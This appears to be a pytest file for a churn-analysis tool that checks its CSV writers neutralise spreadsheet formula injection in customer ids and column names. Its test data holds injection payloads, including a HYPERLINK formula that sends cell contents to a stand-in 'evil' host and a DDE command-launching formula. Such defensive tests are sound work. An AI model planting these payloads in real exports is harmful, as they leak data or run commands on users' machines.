"""Formula injection: no text cell churnlab writes for people may start a formula.

Customer ids, categories and column names pass through one sanitiser
(:func:`churnlab.safe.neutralise_frame`) in every CSV and XLSX writer: scores, features,
explanations, target lists. It runs at write time, after the loader's repairs, so an id that a
repair turns into a formula (tab + ``=2+2`` stripped to ``=2+2``) is caught too. Numbers are
never touched; Parquet, read by programs, keeps every value as it is.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pandas as pd
import pytest
from cases import case
from typer.testing import CliRunner

from churnlab.cli import app
from churnlab.files import write_table
from churnlab.model import save_model
from churnlab.safe import is_formula_like

HOSTILE_IDS = {
    "=1+1": "'=1+1",
    '=HYPERLINK("http://evil/?"&A1)': '\'=HYPERLINK("http://evil/?"&A1)',
    "+41": "'+41",
    "-2": "'-2",
    "@SUM(A1)": "'@SUM(A1)",
    "＝1+1": "'＝1+1",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
}
"""Hostile customer id -> the cell a spreadsheet must see."""


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))


@pytest.fixture(scope="module")
def hostile_data(tiny_demo, tmp_path_factory) -> Path:
    """The tiny demo with eight customers' ids replaced by formulas, in every table."""
    data = Path(shutil.copytree(tiny_demo, tmp_path_factory.mktemp("inject") / "data"))
    customers = pd.read_parquet(data / "customers.parquet")
    active = customers.loc[customers["end_date"].isna(), "customer_id"].head(len(HOSTILE_IDS))
    mapping = dict(zip(active, HOSTILE_IDS, strict=True))
    for path in data.glob("*.parquet"):
        table = pd.read_parquet(path)
        table["customer_id"] = table["customer_id"].replace(mapping)
        table.to_parquet(path, index=False)
    return data


@pytest.fixture(scope="module")
def model_dir(tiny_model, tmp_path_factory) -> Path:
    return save_model(tiny_model, tmp_path_factory.mktemp("inject_model") / "model")


@pytest.fixture(scope="module")
def scores_csv(hostile_data, model_dir, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("scores") / "scores.csv"
    result = CliRunner().invoke(
        app, ["score", str(hostile_data), "--model", str(model_dir), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture(scope="module")
def features_csv(hostile_data, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("features") / "features.csv"
    result = CliRunner().invoke(app, ["features", str(hostile_data), "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out


@pytest.mark.parametrize(
    ("hostile", "cell"),
    [case(f"score id {k!r}", k, v, verdict="ok") for k, v in HOSTILE_IDS.items()],
)
def test_scores_csv_neutralises_hostile_ids(scores_csv, hostile, cell):
    ids = [row["customer_id"] for row in _rows(scores_csv)]

    assert cell in ids and hostile not in ids


@pytest.mark.parametrize(
    "which",
    [case("scores.csv", "scores", verdict="ok"), case("features.csv", "features", verdict="ok")],
)
def test_no_cell_of_a_written_csv_starts_a_formula_and_numbers_stay_numbers(
    scores_csv, features_csv, which
):
    path = scores_csv if which == "scores" else features_csv
    rows = _rows(path)

    texts = [
        row[c]
        for row in rows
        for c in ("customer_id", "cutoff" if which == "features" else "risk_band")
    ]
    assert rows and not [v for v in texts if is_formula_like(v)]
    number = "churn_probability" if which == "scores" else "tenure_days"
    assert all(float(row[number]) >= 0 for row in rows if row[number])


@pytest.mark.parametrize(
    ("hostile", "cell"),
    [case(f"features id {k!r}", k, v, verdict="ok") for k, v in list(HOSTILE_IDS.items())[:3]],
)
def test_features_csv_neutralises_hostile_ids(features_csv, hostile, cell):
    ids = {row["customer_id"] for row in _rows(features_csv)}

    assert cell in ids and hostile not in ids


@pytest.mark.parametrize(
    "suffix", [case("scores.parquet keeps ids as they are", ".parquet", verdict="ok")]
)
def test_parquet_keeps_ids_verbatim(hostile_data, model_dir, tmp_path, suffix):
    out = tmp_path / f"scores{suffix}"
    result = CliRunner().invoke(
        app, ["score", str(hostile_data), "--model", str(model_dir), "--out", str(out)]
    )

    assert result.exit_code == 0, result.output
    assert set(HOSTILE_IDS) <= set(pd.read_parquet(out)["customer_id"])


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        case("tab then formula, stripped by a repair", "\t=2+2", "'\t=2+2", verdict="ok"),
        case("NUL then formula", "\x00=1+1", "'\x00=1+1", verdict="ok"),
        case("space then formula", " =1", "' =1", verdict="ok"),
        case("small equals sign", "﹦1", "'﹦1", verdict="ok"),
        case("minus sign", "−5", "'−5", verdict="ok"),
        case("plain id", "00123", "00123", verdict="ok"),
        case("formula later in the text", "a=b", "a=b", verdict="ok"),
    ],
)
def test_write_table_neutralises_every_text_cell(tmp_path, value, cell):
    frame = pd.DataFrame({"customer_id": [value], "segment": [value], "gain": [-2.5]})

    rows = list(csv.reader(io.StringIO((write_table(frame, tmp_path / "t.csv")).read_text())))

    assert rows[1][:2] == [cell, cell]
    assert rows[1][2] == "-2.5"


@pytest.mark.parametrize("name", [case("a column named like a formula", "=SUM(A1)", verdict="ok")])
def test_write_table_neutralises_column_names(tmp_path, name):
    header = (
        (write_table(pd.DataFrame({name: [1]}), tmp_path / "t.csv")).read_text().splitlines()[0]
    )

    assert header == f"'{name}"


@pytest.mark.parametrize("raw_id", [case("tab + =2+2 in customers.csv", "\t=2+2", verdict="ok")])
def test_an_id_a_repair_turns_into_a_formula_is_neutralised(make_data, tmp_path, raw_id):
    data = make_data(
        {
            "customers.csv": (
                "customer_id,signup_date,end_date\n"
                f'"{raw_id}",2023-01-05,\n'
                "00002,2023-02-01,2024-03-01\n"
            ),
            "churnlab.toml": '[data]\nextract_date = "2024-06-30"\n',
        }
    )
    out = tmp_path / "f.csv"

    result = CliRunner().invoke(app, ["features", str(data), "--out", str(out)])

    assert result.exit_code == 0, result.output
    ids = [row["customer_id"] for row in _rows(out)]
    assert "'=2+2" in ids or f"'{raw_id}" in ids
    assert "=2+2" not in ids
